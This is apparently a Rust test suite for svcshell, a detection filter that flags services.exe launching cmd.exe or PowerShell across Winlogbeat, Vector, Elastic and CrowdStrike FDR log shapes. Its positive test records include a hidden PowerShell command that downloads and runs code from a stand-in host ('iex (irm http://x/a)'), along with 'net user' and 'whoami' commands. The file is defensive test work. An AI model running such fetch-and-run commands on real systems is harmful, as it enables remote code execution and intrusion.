//! Raw-source detection and derivations (docs/shapes.md):
//! - the real Winlogbeat fixtures in `tests/data/fixtures/winlogbeat/` (raw `collection_*` next to Elastic's
//!   ECS `ingest_*` output): the values svcshell derives from each raw process start, and the values the
//!   independent reference (`tests/support/reference.rs`) derives, equal the ECS values Elastic's pipeline
//!   wrote; raw and ECS verdicts agree on every event — also on positives this test makes by editing copies
//!   (child swapped for cmd.exe, parent for services.exe); the Elastic Defend fixtures likewise; the
//!   CrowdStrike FDR fixture (`crowdstrike_fdr/`: raw FDR lines next to the six fields Elastic's pipeline
//!   wrote for them) likewise, every process start deriving exactly Elastic's values;
//! - each shape's recognition rule, derivation and os rule on hand-written records (every verdict also
//!   checked against the reference);
//! - property tests whose oracle is the reference: any process event written in each raw shape, with
//!   arguments made of the splitters' hard characters, gets the reference's verdict and derived values; with
//!   plain arguments, also the verdict of the same event written as ECS.

#[path = "support/mod.rs"]
mod support;

use proptest::prelude::*;
use serde_json::{json, Value};
use svcshell::Filter;

fn filter() -> Filter {
    Filter::from_properties(&[("max_alerts", "0")]).unwrap()
}

fn bytes(v: &Value) -> Vec<u8> {
    serde_json::to_vec(v).unwrap()
}

/// The library's verdict, checked against the independent reference (and the scanner against the
/// `serde_json::Value` path, which shares the library's detection and derivations).
fn alert(f: &Filter, v: &Value) -> bool {
    let b = bytes(v);
    let fast = f.matches(&b).unwrap();
    assert_eq!(
        svcshell_cli::baseline::matches_value(f, &b),
        Some(fast),
        "Value path agrees on {v}"
    );
    assert_eq!(
        support::reference::evaluate(v).alert,
        fast,
        "the reference agrees on {v}"
    );
    fast
}

/// (shape, values of the six fields by name) of a record.
fn explain(f: &Filter, v: &Value) -> (Option<&'static str>, Vec<(&'static str, Vec<String>)>) {
    let e = f.explain(&bytes(v)).unwrap();
    (e.shape, e.values)
}

fn field(values: &[(&'static str, Vec<String>)], name: &str) -> Vec<String> {
    values
        .iter()
        .find(|(n, _)| *n == name)
        .map(|(_, v)| v.clone())
        .unwrap()
}

fn strings(v: &Value) -> Vec<String> {
    match v {
        Value::Null => vec![],
        Value::String(s) => vec![s.clone()],
        Value::Array(a) => a.iter().flat_map(strings).collect(),
        other => panic!("not a string: {other}"),
    }
}

// ------------------------------------------------------------------------------------------ fixtures

/// (collection file name, raw events, ECS events).
type Pair = (String, Vec<Value>, Vec<Value>);

fn fixture_dir(kind: &str) -> std::path::PathBuf {
    std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/fixtures")
        .join(kind)
}

fn fixtures() -> Vec<Pair> {
    let dir = fixture_dir("winlogbeat");
    let mut out = Vec::new();
    let mut names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("collection_"))
        .collect();
    names.sort();
    for n in names {
        let ingest = n
            .replace("collection_", "ingest_")
            .replace(".evtx.golden.json", ".golden.json");
        let read = |name: &str| -> Vec<Value> {
            let v: Value =
                serde_json::from_str(&std::fs::read_to_string(dir.join(name)).unwrap()).unwrap();
            v.as_array().unwrap().clone()
        };
        let (raw, ecs) = (read(&n), read(&ingest));
        assert_eq!(raw.len(), ecs.len(), "{n}: pair lengths");
        out.push((n, raw, ecs));
    }
    assert_eq!(out.len(), 3, "three fixture pairs");
    out
}

fn is_process_start(ecs: &Value) -> bool {
    strings(&ecs["event"]["category"]).contains(&"process".to_string())
        && strings(&ecs["event"]["type"]).contains(&"start".to_string())
}

#[test]
fn fixture_derived_values_equal_elastic_ecs_values() {
    let pairs = fixtures();
    let f = filter();
    let mut starts = 0;
    for (name, raw, ecs) in &pairs {
        for (k, (r, e)) in raw.iter().zip(ecs).enumerate() {
            let what = format!("{name} #{k}");
            if is_process_start(e) {
                starts += 1;
                let (shape, values) = explain(&f, r);
                let want_shape = if r["winlog"]["channel"] == "Security" {
                    "winlogbeat_security"
                } else {
                    "winlogbeat_sysmon"
                };
                assert_eq!(shape, Some(want_shape), "{what}");
                assert_eq!(
                    field(&values, "process.name"),
                    strings(&e["process"]["name"]),
                    "{what}"
                );
                assert_eq!(
                    field(&values, "process.parent.name"),
                    strings(&e["process"]["parent"]["name"]),
                    "{what}"
                );
                assert_eq!(
                    field(&values, "process.args"),
                    strings(&e["process"]["args"]),
                    "{what}"
                );
                assert_eq!(field(&values, "event.type"), vec!["start"], "{what}");
                assert_eq!(field(&values, "event.category"), vec!["process"], "{what}");
                // No host.os.type in the fixtures: a raw Windows event log record counts as windows.
                assert_eq!(field(&values, "host.os.type"), vec!["windows"], "{what}");
                // The independent reference derives what Elastic's pipeline wrote, too.
                let r_ref = support::reference::evaluate(r);
                assert_eq!(r_ref.shape.map(|s| s.name()), Some(want_shape), "{what}");
                assert_eq!(r_ref.fields.name, strings(&e["process"]["name"]), "{what}");
                assert_eq!(
                    r_ref.fields.parent,
                    strings(&e["process"]["parent"]["name"]),
                    "{what}"
                );
                assert_eq!(r_ref.fields.args, strings(&e["process"]["args"]), "{what}");
            }
            // Verdicts agree on every event (none of the fixtures is an alert).
            assert_eq!(alert(&f, r), alert(&f, e), "{what}");
            assert!(!alert(&f, r), "{what}");
        }
    }
    assert_eq!(starts, 5, "process starts in the fixtures");
}

#[test]
fn fixture_positives_made_by_editing_copies() {
    // The fixtures hold no alert. These positives are made by editing copies: the child is swapped for
    // cmd.exe and the parent for services.exe, in the raw record (Image/ParentImage or
    // NewProcessName/ParentProcessName) and in its ECS twin (process.name / process.parent.name). The ECS
    // twin also gets host.os.type "windows" (the fixtures' harness stripped it; Elastic needs it), and so
    // does the raw copy in one variant (honoured when present).
    let pairs = fixtures();
    let f = filter();
    let mut made = 0;
    for (name, raw, ecs) in &pairs {
        for (k, (r, e)) in raw.iter().zip(ecs).enumerate() {
            if !is_process_start(e) {
                continue;
            }
            let what = format!("{name} #{k} (edited copy)");
            let mut r = r.clone();
            let mut e = e.clone();
            let data = &mut r["winlog"]["event_data"];
            let has_parent = if data.get("NewProcessName").is_some() {
                data["NewProcessName"] = json!("C:\\Windows\\System32\\cmd.exe");
                let p = data.get("ParentProcessName").is_some();
                if p {
                    data["ParentProcessName"] = json!("C:\\Windows\\System32\\services.exe");
                }
                p
            } else {
                data["Image"] = json!("C:\\Windows\\System32\\cmd.exe");
                data["ParentImage"] = json!("C:\\Windows\\System32\\services.exe");
                true
            };
            assert!(has_parent, "{what}: 4688 v2 carries ParentProcessName");
            e["process"]["name"] = json!("cmd.exe");
            e["process"]["parent"]["name"] = json!("services.exe");
            // Without host.os.type Elastic does not alert on the ECS document; the raw record counts as
            // windows (docs/shapes.md note on os).
            assert!(!alert(&f, &e), "{what}: ECS without host.os.type");
            assert!(alert(&f, &r), "{what}: raw");
            e["host"]["os"] = json!({"type": "windows"});
            assert!(alert(&f, &e), "{what}: ECS");
            r["host"]["os"] = json!({"type": "windows"});
            assert!(alert(&f, &r), "{what}: raw with host.os.type");
            r["host"]["os"] = json!({"type": "linux"});
            assert!(!alert(&f, &r), "{what}: raw with host.os.type linux");
            r["host"]["os"] = json!({"type": "windows"});
            // The NVDisplay exclusion, as an extra argument on both sides.
            let cmd = r["winlog"]["event_data"]["CommandLine"]
                .as_str()
                .unwrap()
                .trim_end()
                .to_string();
            r["winlog"]["event_data"]["CommandLine"] =
                json!(format!("{cmd} -s NVDisplay.ContainerLocalSystem"));
            let mut args = strings(&e["process"]["args"]);
            args.extend([
                "-s".to_string(),
                "NVDisplay.ContainerLocalSystem".to_string(),
            ]);
            e["process"]["args"] = json!(args);
            assert_eq!(
                field(&explain(&f, &r).1, "process.args"),
                args,
                "{what}: args"
            );
            assert!(!alert(&f, &r), "{what}: raw NVDisplay");
            assert!(!alert(&f, &e), "{what}: ECS NVDisplay");
            made += 1;
        }
    }
    assert_eq!(made, 5);
}

#[test]
fn endpoint_fixtures_and_edited_copies() {
    // Elastic Defend events (ECS as Elastic indexes them): neither alerts; copies edited into services.exe
    // starting cmd.exe do, and the NVDisplay exclusion or a non-Windows host turns them off again.
    let f = filter();
    for name in [
        "sample_event.json",
        "schemas_examples_v1_process_created_windows.json",
    ] {
        let text = std::fs::read_to_string(fixture_dir("endpoint").join(name)).unwrap();
        let e: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(explain(&f, &e).0, Some("ecs"), "{name}");
        assert!(!alert(&f, &e), "{name}");
        let mut x = e.clone();
        x["process"]["name"] = json!("cmd.exe");
        x["process"]["parent"]["name"] = json!("services.exe");
        x["event"]["category"] = json!(["process"]);
        x["event"]["type"] = json!(["start"]);
        x["host"]["os"]["type"] = json!("windows");
        assert!(alert(&f, &x), "{name}: edited copy");
        let mut y = x.clone();
        y["process"]["args"] = json!(["cmd.exe", "/c", "NVDisplay.ContainerLocalSystem"]);
        assert!(
            !alert(&f, &y),
            "{name}: edited copy with the NVDisplay argument"
        );
        let mut y = x.clone();
        y["host"]["os"]["type"] = json!(1);
        assert!(!alert(&f, &y), "{name}: edited copy, numeric host.os.type");
        // The raw text (its own spacing and key order) gives the same verdict as the re-serialised value.
        assert!(!f.matches(text.as_bytes()).unwrap(), "{name}: raw text");
    }
}

/// The FDR fixture: raw lines and the six fields Elastic's pipeline gave each (its expected output, trimmed).
fn fdr_fixture() -> Vec<(String, Value)> {
    let dir = fixture_dir("crowdstrike_fdr");
    let log = std::fs::read_to_string(dir.join("process_events.log")).unwrap();
    let exp: Value = serde_json::from_str(
        &std::fs::read_to_string(dir.join("process_events.expected.json")).unwrap(),
    )
    .unwrap();
    let exp = exp["expected"].as_array().unwrap().clone();
    let lines: Vec<String> = log.lines().map(str::to_string).collect();
    assert_eq!(lines.len(), exp.len(), "one expected document per line");
    lines.into_iter().zip(exp).collect()
}

/// Elastic's six fields of an expected document (missing = no value).
fn ecs_fields(e: &Value) -> support::reference::Fields {
    support::reference::Fields {
        category: strings(&e["event"]["category"]),
        event_type: strings(&e["event"]["type"]),
        os: strings(&e["host"]["os"]["type"]),
        name: strings(&e["process"]["name"]),
        parent: strings(&e["process"]["parent"]["name"]),
        args: strings(&e["process"]["args"]),
    }
}

#[test]
fn crowdstrike_fdr_fixture_equals_elastic_output() {
    // Every line is recognised as crowdstrike_fdr and gets Elastic's verdict (the rule run on the ECS fields
    // Elastic's pipeline wrote); every process start derives exactly Elastic's six values, in svcshell and in
    // the independent reference.
    let f = filter();
    let mut starts = 0;
    for (k, (line, exp)) in fdr_fixture().iter().enumerate() {
        let what = format!("process_events.log line {}", k + 1);
        let want = ecs_fields(exp);
        let elastic = support::reference::rule(&want);
        let e = f.explain(line.as_bytes()).unwrap();
        assert_eq!(e.shape, Some("crowdstrike_fdr"), "{what}");
        assert_eq!(f.matches(line.as_bytes()).unwrap(), elastic, "{what}");
        assert_eq!(
            svcshell_cli::baseline::matches_value(&f, line.as_bytes()),
            Some(elastic),
            "{what}"
        );
        assert_eq!(e.alert, elastic, "{what}");
        let reference = support::reference::evaluate_line(line.as_bytes()).unwrap();
        assert_eq!(reference.alert, elastic, "{what}: reference");
        let start = want.category.iter().any(|c| c == "process")
            && want.event_type.iter().any(|t| t == "start");
        if !start {
            continue;
        }
        starts += 1;
        let mut got = e.values.clone();
        for (_, v) in got.iter_mut() {
            v.sort();
        }
        assert_eq!(got, want.named(), "{what}: svcshell");
        assert_eq!(reference.fields.named(), want.named(), "{what}: reference");
    }
    assert_eq!(starts, 5, "process starts in the FDR fixture");
}

#[test]
fn crowdstrike_fdr_positives_made_by_editing_copies() {
    // The fixture holds no alert. Copies of each process start edited into services.exe starting a shell on a
    // Windows host alert; the NVDisplay argument, another platform, a non-start event, a parent name the
    // pipeline drops, or a platform the pipeline does not know turn them off again.
    let f = filter();
    let mut made = 0;
    for (k, (line, exp)) in fdr_fixture().iter().enumerate() {
        if !strings(&exp["event"]["type"]).contains(&"start".to_string()) {
            continue;
        }
        let what = format!("process_events.log line {} (edited copy)", k + 1);
        let mut r: Value = serde_json::from_str(line).unwrap();
        r["event_platform"] = json!("Win");
        r["ImageFileName"] = json!(
            "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        );
        r["ParentBaseFileName"] = json!("services.exe");
        r["CommandLine"] = json!("powershell.exe -nop -w hidden -c \"iex (irm http://x/a)\"");
        assert!(alert(&f, &r), "{what}");
        made += 1;
        let mut x = r.clone();
        x["CommandLine"] = json!("\"C:\\Program Files\\NVIDIA\\NVDisplay.Container.exe\" -s NVDisplay.ContainerLocalSystem");
        assert!(!alert(&f, &x), "{what}: NVDisplay");
        // Without a platform the pipeline knows there is no host.os.type (and no arguments).
        for platform in [json!("Mac"), json!("win"), json!(null), json!(1)] {
            let mut x = x.clone();
            x["event_platform"] = platform.clone();
            assert!(!alert(&f, &x), "{what}: platform {platform}");
            let mut y = r.clone();
            y["event_platform"] = platform.clone();
            assert!(!alert(&f, &y), "{what}: platform {platform}");
        }
        for name in ["EndOfProcess", "ProcessRollup2Stats", "processrollup2"] {
            let mut x = r.clone();
            x["event_simpleName"] = json!(name);
            assert!(!alert(&f, &x), "{what}: {name}");
            assert_eq!(explain(&f, &x).0, Some("crowdstrike_fdr"), "{what}: {name}");
        }
        for parent in [json!("none"), json!("-"), json!(""), json!(null)] {
            let mut x = r.clone();
            x["ParentBaseFileName"] = parent.clone();
            assert!(!alert(&f, &x), "{what}: parent {parent}");
        }
        // A drive-letter path is not split (the pipeline only splits paths starting with `\` or `/`).
        let mut x = r.clone();
        x["ImageFileName"] = json!("C:\\Windows\\System32\\cmd.exe");
        assert!(!alert(&f, &x), "{what}: drive-letter image");
        x["ImageFileName"] = json!("cmd.exe");
        assert!(alert(&f, &x), "{what}: bare image name");
        // A cloning runc (executable `/`) is named after its first argument.
        let mut x = r.clone();
        x["ImageFileName"] = json!("/");
        x["CommandLine"] = json!("\"C:/Windows/System32/cm\"d.exe /c whoami");
        assert!(
            alert(&f, &x),
            "{what}: executable / named from its argument"
        );
    }
    assert_eq!(made, 5);
}

/// A Winlogbeat record as Vector's `windows_event_log` source writes the same event (vectordotdev/vector,
/// `src/sources/windows_event_log/parser.rs`, `set_windows_fields`): System values top-level in snake_case,
/// `event_id` an integer, named event data in `event_data`.
fn as_vector(wlb: &Value) -> Value {
    let w = &wlb["winlog"];
    let mut v = json!({"timestamp": wlb["@timestamp"], "message": wlb["message"],
        "host": w["computer_name"], "event_id": w["event_id"].as_str().map_or_else(
            || w["event_id"].clone(), |s| json!(s.parse::<u64>().unwrap())),
        "record_id": w["record_id"], "level": "Information", "level_value": 4,
        "channel": w["channel"], "provider_name": w["provider_name"], "computer": w["computer_name"],
        "process_id": w["process"]["pid"], "thread_id": w["process"]["thread"]["id"],
        "version": w["version"]});
    if let Some(d) = w.get("event_data") {
        v["event_data"] = d.clone();
    }
    if let Some(os) = wlb.get("host").and_then(|h| h.get("os")) {
        v["host"] = json!({"os": os});
    }
    v
}

#[test]
fn vector_winevtlog_alerts_like_winlogbeat_on_the_fixtures_and_edited_copies() {
    // Every Winlogbeat fixture event, rewritten as Vector's source writes it, gets the same shape family,
    // the same six values and the same verdict; so do the positives made by editing copies (cmd.exe started
    // by services.exe).
    let f = filter();
    let mut events = 0;
    let mut positives = 0;
    for (name, raw, _) in &fixtures() {
        for (k, r) in raw.iter().enumerate() {
            let mut variants = vec![r.clone()];
            if let Some(d) = r["winlog"]["event_data"].as_object() {
                let mut x = r.clone();
                let data = &mut x["winlog"]["event_data"];
                if d.contains_key("NewProcessName") {
                    data["NewProcessName"] = json!("C:\\Windows\\System32\\cmd.exe");
                    data["ParentProcessName"] = json!("C:\\Windows\\System32\\services.exe");
                } else {
                    data["Image"] = json!("C:\\Windows\\System32\\cmd.exe");
                    data["ParentImage"] = json!("C:\\Windows\\System32\\services.exe");
                }
                variants.push(x);
            }
            for (j, w) in variants.iter().enumerate() {
                let what = format!("{name} #{k} variant {j}");
                let v = as_vector(w);
                events += 1;
                let (shape, values) = explain(&f, &v);
                assert_eq!(shape, Some("vector_winevtlog"), "{what}: {v}");
                assert_eq!(values, explain(&f, w).1, "{what}");
                let a = alert(&f, &v);
                assert_eq!(a, alert(&f, w), "{what}");
                positives += usize::from(a);
            }
        }
    }
    assert!(events >= 10, "{events} events");
    assert_eq!(positives, 5, "one positive per edited process start");
}

#[test]
fn vector_winevtlog_recognition_and_detection_order() {
    let f = filter();
    let shell = json!({"channel": SYSMON, "event_id": 1, "provider_name": "Microsoft-Windows-Sysmon",
        "computer": "h", "host": "h", "event_data": {
            "Image": "C:\\Windows\\System32\\cmd.exe",
            "ParentImage": "C:\\Windows\\System32\\services.exe",
            "CommandLine": "cmd.exe /c \"net user\""}});
    assert!(alert(&f, &shell));
    let (shape, values) = explain(&f, &shell);
    assert_eq!(shape, Some("vector_winevtlog"));
    assert_eq!(
        field(&values, "process.args"),
        ["cmd.exe", "/c", "net user"]
    );
    assert_eq!(field(&values, "host.os.type"), ["windows"]);
    // The event id as a string counts like Winlogbeat's; other ids, channels and a float do not start.
    let mut x = shell.clone();
    x["event_id"] = json!("1");
    assert!(alert(&f, &x));
    for (k, v) in [
        ("event_id", json!(5)),
        ("event_id", json!(1.5)),
        ("event_id", json!(null)),
        ("channel", json!("Application")),
        ("channel", json!("microsoft-windows-sysmon/operational")),
    ] {
        let mut x = shell.clone();
        x[k] = v.clone();
        assert!(!alert(&f, &x), "{k}={v}");
        assert_eq!(explain(&f, &x).0, Some("vector_winevtlog"), "{k}={v}");
    }
    // Security 4688: the 4688 basenames and splitter.
    let sec = json!({"channel": "Security", "event_id": 4688, "provider_name":
        "Microsoft-Windows-Security-Auditing", "event_data": {
            "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
            "ParentProcessName": "C:\\Windows\\System32\\services.exe",
            "CommandLine": "\"cmd.exe\" /c x"}});
    assert!(alert(&f, &sec));
    assert_eq!(
        field(&explain(&f, &sec).1, "process.args"),
        ["\"cmd.exe\"", "/c", "x"]
    );
    // `provider_name` and `channel` both: either alone is not Vector's record.
    for key in ["provider_name", "channel"] {
        let mut x = shell.clone();
        x.as_object_mut().unwrap().remove(key);
        assert!(!alert(&f, &x), "without {key}");
        assert_eq!(explain(&f, &x).0, None, "without {key}");
    }
    // Unnamed data (`string_inserts`) is never read by position; without `event_data` a start has no
    // names.
    let mut x = shell.clone();
    x.as_object_mut().unwrap().remove("event_data");
    x["string_inserts"] = json!(["a", "b", "c", "d", "C:\\Windows\\System32\\cmd.exe"]);
    assert!(!alert(&f, &x));
    assert!(field(&explain(&f, &x).1, "process.name").is_empty());
    // host.os.type is honoured when present (a user's remap may add it).
    let mut x = shell.clone();
    x["host"] = json!({"os": {"type": "linux"}});
    assert!(!alert(&f, &x));
    // Every other shape's keys win: Fluent Bit's `Channel`, Winlogbeat's `winlog.channel`, ECS fields.
    let mut x = shell.clone();
    x["Channel"] = json!("Application");
    x["ProviderName"] = json!("p");
    assert_eq!(explain(&f, &x).0, Some("winevtlog"));
    assert!(!alert(&f, &x));
    let mut x = shell.clone();
    x["winlog"] = json!({"channel": "Security", "event_id": 4624});
    assert_eq!(explain(&f, &x).0, Some("winlogbeat_security"));
    assert!(!alert(&f, &x));
    let mut x = shell.clone();
    x["process"] = json!({"name": "notepad.exe"});
    assert_eq!(explain(&f, &x).0, Some("ecs"));
    assert!(!alert(&f, &x));
    let mut x = fdr_start(
        "\\Device\\HarddiskVolume3\\notepad.exe",
        "explorer.exe",
        "notepad.exe",
    );
    x.as_object_mut()
        .unwrap()
        .extend(shell.as_object().unwrap().clone());
    assert_eq!(explain(&f, &x).0, Some("crowdstrike_fdr"));
    // `sources` decides.
    let only =
        Filter::from_properties(&[("max_alerts", "0"), ("sources", "vector_winevtlog")]).unwrap();
    assert!(only.matches(&bytes(&shell)).unwrap());
    let without = Filter::from_properties(&[
        ("max_alerts", "0"),
        ("sources", "ecs,winlogbeat_sysmon,winevtlog"),
    ])
    .unwrap();
    assert!(!without.matches(&bytes(&shell)).unwrap());
    assert_eq!(explain(&without, &shell).0, None);
    let wlb = wlb_sysmon("cmd.exe", "services.exe", "cmd.exe");
    assert!(!only.matches(&bytes(&wlb)).unwrap());
}

// ------------------------------------------------------------------------- hand-written records

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

fn wlb_sysmon(child: &str, parent: &str, cmd: &str) -> Value {
    json!({"winlog": {"channel": SYSMON, "event_id": "1", "event_data": {
        "Image": format!("C:\\Windows\\System32\\{child}"),
        "ParentImage": format!("C:\\Windows\\System32\\{parent}"),
        "CommandLine": cmd}}})
}

#[test]
fn unknown_source_names_are_a_config_error_naming_sources() {
    let e = Filter::from_properties(&[("sources", "ecs,winlogbeat")])
        .err()
        .expect("unknown source");
    assert_eq!(e.key, "sources");
    assert!(e.message.contains("winlogbeat"), "{e}");
    for ok in [
        "ecs",
        "ECS, m365",
        "winlogbeat_sysmon,winlogbeat_security,nxlog,evtx,winevtlog,sentinelone,m365,ecs",
        "crowdstrike_fdr",
        " CrowdStrike_FDR ,ecs",
        "vector_winevtlog",
    ] {
        assert!(Filter::from_properties(&[("sources", ok)]).is_ok(), "{ok}");
    }
}

fn fdr_start(image: &str, parent: &str, cmd: &str) -> Value {
    json!({"event_simpleName": "ProcessRollup2", "event_platform": "Win", "name": "ProcessRollup2V19",
        "aid": "40b756af7c1d76ef66cb380d94090915", "ImageFileName": image, "ParentBaseFileName": parent,
        "CommandLine": cmd})
}

#[test]
fn crowdstrike_fdr_recognition_derivations_and_detection_order() {
    let f = filter();
    let shell = "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe";
    let r = fdr_start(shell, "services.exe", "cmd.exe /c \"net user\" - none \"\"");
    assert!(alert(&f, &r));
    let (shape, values) = explain(&f, &r);
    assert_eq!(shape, Some("crowdstrike_fdr"));
    assert_eq!(field(&values, "process.name"), ["cmd.exe"]);
    assert_eq!(field(&values, "host.os.type"), ["windows"]);
    // `remove_nulls` drops the `-`, `none` and empty arguments.
    assert_eq!(
        field(&values, "process.args"),
        ["cmd.exe", "/c", "net user"]
    );
    // Every process start of the categorize table counts; other events and other spellings do not.
    for name in [
        "SyntheticProcessRollup2",
        "ServiceStarted",
        "WmiCreateProcess",
        "ProcessRollup",
    ] {
        let mut x = r.clone();
        x["event_simpleName"] = json!(name);
        assert!(alert(&f, &x), "{name}");
    }
    for name in [
        "ProcessRollup2Stats",
        "EndOfProcess",
        "PROCESSROLLUP2",
        "ProcessRollup2V19",
    ] {
        let mut x = r.clone();
        x["event_simpleName"] = json!(name);
        assert!(!alert(&f, &x), "{name}");
        assert_eq!(
            explain(&f, &x),
            (Some("crowdstrike_fdr"), explain(&f, &json!({})).1)
        );
    }
    // The shape comes last: the keys of every other shape win, and ECS fields win over everything.
    let mut x = wlb_sysmon("notepad.exe", "explorer.exe", "notepad.exe");
    x.as_object_mut()
        .unwrap()
        .extend(r.as_object().unwrap().clone());
    assert_eq!(explain(&f, &x).0, Some("winlogbeat_sysmon"));
    assert!(!alert(&f, &x));
    let mut x = r.clone();
    x["meta"] = json!({"event": {"name": "TCPV4"}});
    assert_eq!(explain(&f, &x).0, Some("sentinelone"));
    assert!(!alert(&f, &x));
    let mut x = r.clone();
    x["process"] = json!({"name": "notepad.exe"});
    assert_eq!(explain(&f, &x).0, Some("ecs"));
    assert!(!alert(&f, &x));
    // `sources` decides: without crowdstrike_fdr the record has no shape; with only it, a Sysmon record
    // has none.
    let only_ecs = Filter::from_properties(&[("max_alerts", "0"), ("sources", "ecs")]).unwrap();
    assert!(!only_ecs.matches(&bytes(&r)).unwrap());
    assert_eq!(explain(&only_ecs, &r).0, None);
    let only_fdr =
        Filter::from_properties(&[("max_alerts", "0"), ("sources", "crowdstrike_fdr")]).unwrap();
    assert!(only_fdr.matches(&bytes(&r)).unwrap());
    let sysmon = wlb_sysmon("cmd.exe", "services.exe", "cmd.exe");
    assert!(!only_fdr.matches(&bytes(&sysmon)).unwrap());
    assert_eq!(explain(&only_fdr, &sysmon).0, None);
    // No parent name without ParentBaseFileName: the pipeline joins nothing on ParentProcessId.
    let mut x = r.clone();
    x.as_object_mut().unwrap().remove("ParentBaseFileName");
    x["ParentProcessId"] = json!("3000051703140");
    assert!(!alert(&f, &x));
    assert!(field(&explain(&f, &x).1, "process.parent.name").is_empty());
    // Names: a device path or a POSIX path is split, a drive-letter path is kept whole.
    for (image, name) in [
        ("\\??\\C:\\Windows\\system32\\conhost.exe", "conhost.exe"),
        ("/usr/bin/pwsh", "pwsh"),
        ("C:\\Windows\\cmd.exe", "C:\\Windows\\cmd.exe"),
        ("cmd.exe", "cmd.exe"),
    ] {
        let x = fdr_start(image, "services.exe", "x");
        assert_eq!(field(&explain(&f, &x).1, "process.name"), [name], "{image}");
    }
    for image in ["\\Windows\\", "/", "-", "none", ""] {
        let x = fdr_start(image, "services.exe", "");
        assert!(
            field(&explain(&f, &x).1, "process.name").is_empty(),
            "{image}"
        );
    }
}

#[test]
fn winlogbeat_sysmon_recognition_and_event_id() {
    let f = filter();
    let r = wlb_sysmon("cmd.exe", "services.exe", "cmd.exe /c whoami");
    assert!(alert(&f, &r));
    // Winlogbeat 7: numeric event id.
    let mut r7 = r.clone();
    r7["winlog"]["event_id"] = json!(1);
    assert!(alert(&f, &r7));
    // Other event ids, or another channel spelling, are not process starts / not Sysmon.
    for (k, v) in [
        ("event_id", json!("5")),
        ("event_id", json!(5)),
        ("event_id", json!("01")),
        ("channel", json!("microsoft-windows-sysmon/operational")),
        ("channel", json!("Microsoft-Windows-Sysmon")),
    ] {
        let mut x = r.clone();
        x["winlog"][k] = v;
        assert!(!alert(&f, &x), "{x}");
    }
    // basename_sysmon: a bare name (no backslash) is absent.
    let mut x = r.clone();
    x["winlog"]["event_data"]["Image"] = json!("cmd.exe");
    assert!(!alert(&f, &x));
    assert_eq!(
        field(&explain(&f, &x).1, "process.name"),
        Vec::<String>::new()
    );
    // Dotted keys are the same fields.
    let flat = json!({"winlog.channel": SYSMON, "winlog.event_id": "1",
        "winlog.event_data.Image": "C:\\x\\CMD.EXE", "winlog.event_data.ParentImage": "C:\\x\\Services.exe"});
    assert!(alert(&f, &flat));
    assert_eq!(explain(&f, &flat).0, Some("winlogbeat_sysmon"));
    // A CommandLine of "-" is absent (so the NVDisplay exclusion cannot hold).
    let mut x = r.clone();
    x["winlog"]["event_data"]["CommandLine"] = json!("-");
    assert_eq!(
        field(&explain(&f, &x).1, "process.args"),
        Vec::<String>::new()
    );
    assert!(alert(&f, &x));
    // Go-style splitting: a quoted NVDisplay argument is the bare word.
    x["winlog"]["event_data"]["CommandLine"] =
        json!("cmd.exe /c \"NVDisplay.ContainerLocalSystem\"");
    assert!(!alert(&f, &x));
    x["winlog"]["event_data"]["CommandLine"] =
        json!("cmd.exe /c -s=NVDisplay.ContainerLocalSystem");
    assert!(alert(&f, &x));
}

#[test]
fn winlogbeat_security_4688() {
    let f = filter();
    let r = json!({"winlog": {"channel": "Security", "event_id": "4688", "version": 2, "event_data": {
        "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
        "ParentProcessName": "C:\\Windows\\System32\\services.exe",
        "CommandLine": "cmd.exe  /c \"NVDisplay.ContainerLocalSystem\""}}});
    let (shape, v) = explain(&f, &r);
    assert_eq!(shape, Some("winlogbeat_security"));
    // argv_4688 keeps quotes and gives an empty argument for a double space.
    assert_eq!(
        field(&v, "process.args"),
        vec!["cmd.exe", "", "/c", "\"NVDisplay.ContainerLocalSystem\""]
    );
    assert!(alert(&f, &r), "a quoted argument is not the bare word here");
    // v1 (no ParentProcessName): no parent, no alert.
    let mut v1 = r.clone();
    v1["winlog"]["event_data"]
        .as_object_mut()
        .unwrap()
        .remove("ParentProcessName");
    assert!(!alert(&f, &v1));
    // basename_4688: a bare name is the name.
    let mut x = r.clone();
    x["winlog"]["event_data"]["NewProcessName"] = json!("PowerShell.exe");
    x["winlog"]["event_data"]["ParentProcessName"] = json!("services.exe");
    assert!(alert(&f, &x));
    let mut x = r.clone();
    x["winlog"]["event_id"] = json!(4689);
    assert!(!alert(&f, &x));
    x["winlog"]["event_id"] = json!(4688);
    assert!(alert(&f, &x));
}

#[test]
fn ecs_precedence_and_os_rule() {
    let f = filter();
    let raw = wlb_sysmon("cmd.exe", "services.exe", "cmd.exe");
    assert!(alert(&f, &raw));
    // Winlogbeat 7 output / re-shipped ECS: process.name present → evaluated on ECS fields like Elastic.
    let mut x = raw.clone();
    x["process"] = json!({"name": "cmd.exe"});
    assert_eq!(explain(&f, &x).0, Some("ecs"));
    assert!(!alert(&f, &x), "ECS: no event.type, no parent, no os");
    x["process"] = json!({"name": "cmd.exe", "parent": {"name": "services.exe"}});
    x["event"] = json!({"category": ["process"], "type": ["start"]});
    assert!(!alert(&f, &x), "ECS without host.os.type: no alert");
    x["host"] = json!({"os": {"type": "windows"}});
    assert!(alert(&f, &x));
    // A null process.name does not count.
    let mut y = raw.clone();
    y["process"] = json!({"name": null});
    assert_eq!(explain(&f, &y).0, Some("winlogbeat_sysmon"));
    assert!(alert(&f, &y));
    // With ecs disabled, an ECS-carrying record has no shape (raw fields are only used without ECS ones).
    let g = Filter::from_properties(&[("sources", "winlogbeat_sysmon")]).unwrap();
    assert!(!g.matches(&bytes(&x)).unwrap());
    assert_eq!(g.explain(&bytes(&x)).unwrap().shape, None);
    assert!(g.matches(&bytes(&raw)).unwrap());
    // os: honoured when present, windows when absent.
    let mut z = raw.clone();
    z["host"] = json!({"os": {"type": "macos"}});
    assert!(!alert(&f, &z));
    z["host"] = json!({"os": {"type": null}});
    assert!(alert(&f, &z));
    z["host"] = json!("wec01.corp.example.org");
    assert!(alert(&f, &z));
}

